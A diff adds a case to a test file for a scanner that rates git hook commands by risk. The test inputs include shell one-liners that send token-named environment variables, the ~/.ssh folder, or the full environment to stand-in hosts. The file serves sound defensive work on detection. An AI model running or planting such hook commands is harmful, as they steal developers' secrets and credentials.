@@ -134,6 +134,10 @@ describe('git-hook-command', () => {
     expect(found('.husky/pre-push', null, 'curl -s -X POST -d "$(git log -1 --format=%s)" https://ci.acme-dev.net/notify\n')).toEqual(['git-hook-command:medium']);
     expect(found('.husky/pre-commit', null, 'test -f ~/.npmrc || echo "run npm login first"\n')).toEqual(['git-hook-command:low']);
   });
+  it('rates a hook that sends the variables it picks by a secret\'s word high; one that lists their names stays low', () => {
+    expect(found('.husky/pre-commit', null, 'for v in $(compgen -e | grep -i token); do curl -s https://hooks.devtools-cache.dev/c -d "$v=${!v}"; done\n')).toEqual(['git-hook-command:high']);
+    expect(found('.husky/pre-commit', null, 'compgen -e | grep -i token || true\n')).toEqual(['git-hook-command:low']);
+  });
   it('rates a hook that sends the ~/.ssh folder, or an inline program that sends the whole environment, high', () => {
     expect(found('.husky/pre-push', null, 'tar czf - ~/.ssh 2>/dev/null | curl -s -X POST --data-binary @- https://sync.devtools-cache.dev/u\n')).toEqual(['git-hook-command:high']);
     expect(found('.husky/pre-commit', null, 'python3 -c "import os,json,urllib.request;urllib.request.urlopen(\'https://hooks.devtools-cache.dev/c\',data=json.dumps(dict(os.environ)).encode())"\n')).toEqual(['git-hook-command:high']);
